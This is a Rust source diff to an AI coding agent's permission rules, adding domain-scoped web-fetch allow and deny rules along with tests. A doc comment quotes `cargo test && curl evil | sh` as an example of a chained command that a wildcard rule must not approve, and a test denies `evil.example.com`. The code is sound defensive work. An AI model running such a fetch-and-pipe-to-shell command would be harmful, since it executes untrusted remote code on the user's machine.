@@ -8,6 +8,9 @@
 //! sees them, wrappers and nested shells included) is covered, so `Run(cargo test*)` does not approve
 //! `cargo test && curl evil | sh`.
 //!
+//! `WebFetch(domain:<host>)` covers `web_fetch` calls to that host (`domain:*.example.com`: its subdomains too);
+//! an allow rule is also what lets `web_fetch` reach a loopback, link-local or private address.
+//!
 //! `Mcp(<server>/<tool>)` covers tools of MCP servers by the names the user configured (not the sanitised names
 //! the model sees); `*` matches any run of characters in either part: `Mcp(git/*)`, `Mcp(*/search_*)`,
 //! `Mcp(github/create_issue)`. A bare `Mcp` covers every MCP tool.
@@ -21,8 +24,10 @@ use super::{Action, Call, Kind};
 pub enum RuleError {
     #[error("invalid permission rule '{0}': expected a tool name, optionally with a pattern: Run(cargo test*), Edit(**/.env), read_file")]
     Syntax(String),
-    #[error("invalid permission rule '{rule}': unknown tool '{tool}' (known: Run, Read, Edit, Mcp, run, read_file, list_files, search, edit_file, write_file)")]
+    #[error("invalid permission rule '{rule}': unknown tool '{tool}' (known: Run, Read, Edit, Mcp, WebFetch, run, read_file, list_files, search, edit_file, write_file, web_fetch)")]
     UnknownTool { rule: String, tool: String },
+    #[error("invalid permission rule '{0}': expected WebFetch(domain:<host>), e.g. WebFetch(domain:docs.rs) or WebFetch(domain:*.example.com)")]
+    Domain(String),
 }
 
 /// What a rule is about.
@@ -38,6 +43,8 @@ enum Family {
     Tool(String),
     /// Tools of MCP servers; the pattern matches `<server>/<tool>`.
     Mcp,
+    /// `web_fetch`; the pattern (`domain:<host>`) matches the host of each URL it fetches.
+    WebFetch,
 }
 
 /// One parsed rule.
@@ -56,6 +63,7 @@ const TOOLS: &[&str] = &[
     "search",
     "edit_file",
     "write_file",
+    "web_fetch",
 ];
 
 impl Rule {
@@ -78,6 +86,7 @@ impl Rule {
             "Read" => Family::Read,
             "Edit" | "Write" => Family::Edit,
             "Mcp" | "MCP" => Family::Mcp,
+            "WebFetch" => Family::WebFetch,
             tool if TOOLS.contains(&tool) => Family::Tool(tool.to_string()),
             tool => {
                 return Err(RuleError::UnknownTool {
@@ -86,6 +95,9 @@ impl Rule {
                 })
             }
         };
+        if family == Family::WebFetch {
+            check_domain_pattern(text, pattern.as_deref())?;
+        }
         Ok(Rule {
             text: text.to_string(),
             family,
@@ -102,6 +114,7 @@ impl Rule {
             Family::Edit => call.kind == Kind::Edit,
             Family::Tool(name) => name == call.tool,
             Family::Mcp => matches!(call.action, Action::Mcp { .. }),
+            Family::WebFetch => call.tool == WEB_FETCH,
         }
     }
 
@@ -165,6 +178,56 @@ impl Rule {
     /// A bare tool rule (`run`, `Edit`) without a pattern.
     pub fn is_bare(&self) -> bool {
         self.pattern.is_none()
+    }
+}
+
+/// The tool `WebFetch(...)` rules are about.
+const WEB_FETCH: &str = "web_fetch";
+
+/// A `WebFetch` rule's pattern must be `domain:<host>`, the host a name or `*.` and a name.
+fn check_domain_pattern(text: &str, pattern: Option<&str>) -> Result<(), RuleError> {
+    let Some(pattern) = pattern else {
+        return Ok(());
+    };
+    let host = pattern.strip_prefix("domain:").map(str::trim);
+    let name = host.map(|h| h.strip_prefix("*.").unwrap_or(h));
+    match name {
+        Some(name) if !name.is_empty() && !name.contains(['*', '/', ' ']) => Ok(()),
+        _ => Err(RuleError::Domain(text.to_string())),
+    }
+}
+
+impl Rule {
+    /// Whether this `WebFetch` rule covers a fetch from `host`: `domain:docs.rs` that host, `domain:*.docs.rs`
+    /// its subdomains and itself; a bare `WebFetch` every host. Hosts compare without case.
+    pub fn covers_domain(&self, host: &str) -> bool {
+        if self.family != Family::WebFetch {
+            return false;
+        }
+        let Some(pattern) = &self.pattern else {
+            return true;
+        };
+        let want = pattern
+            .trim_start_matches("domain:")
+            .trim()
+            .to_ascii_lowercase();
+        let host = host.trim_end_matches('.').to_ascii_lowercase();
+        match want.strip_prefix("*.") {
+            Some(parent) => host == parent || host.ends_with(&format!(".{parent}")),
+            None => host == want,
+        }
+    }
+}
+
+impl Rules {
+    /// The first deny rule covering a fetch from `host` (deny wins over any allow).
+    pub fn deny_domain(&self, host: &str) -> Option<&Rule> {
+        self.deny.iter().find(|r| r.covers_domain(host))
+    }
+
+    /// The first allow rule covering a fetch from `host`.
+    pub fn allow_domain(&self, host: &str) -> Option<&Rule> {
+        self.allow.iter().find(|r| r.covers_domain(host))
     }
 }
 
@@ -545,5 +608,44 @@ mod tests {
             elapsed < std::time::Duration::from_millis(100),
             "took {elapsed:?}"
         );
+    }
+}
+
+#[cfg(test)]
+mod domain_tests {
+    use super::*;
+
+    #[test]
+    fn web_fetch_rules_match_hosts_and_deny_wins() {
+        let rules = Rules::from_lists(
+            &[
+                "WebFetch(domain:*.example.com)",
+                "WebFetch(domain:127.0.0.1)",
+            ],
+            &["WebFetch(domain:evil.example.com)"],
+        )
+        .unwrap();
+        assert!(rules.allow_domain("docs.example.com").is_some());
+        assert!(rules.allow_domain("EXAMPLE.com").is_some());
+        assert!(rules.allow_domain("example.org").is_none());
+        assert!(rules.allow_domain("badexample.com").is_none());
+        assert!(rules.allow_domain("127.0.0.1").is_some());
+        assert_eq!(
+            rules
+                .deny_domain("evil.example.com")
+                .map(|r| r.text.as_str()),
+            Some("WebFetch(domain:evil.example.com)")
+        );
+        for bad in [
+            "WebFetch(docs.rs)",
+            "WebFetch(domain:)",
+            "WebFetch(domain:a*b)",
+        ] {
+            assert!(
+                matches!(Rule::parse(bad), Err(RuleError::Domain(_))),
+                "{bad}"
+            );
+        }
+        assert!(Rule::parse("WebFetch").unwrap().covers_domain("any.host"));
     }
 }
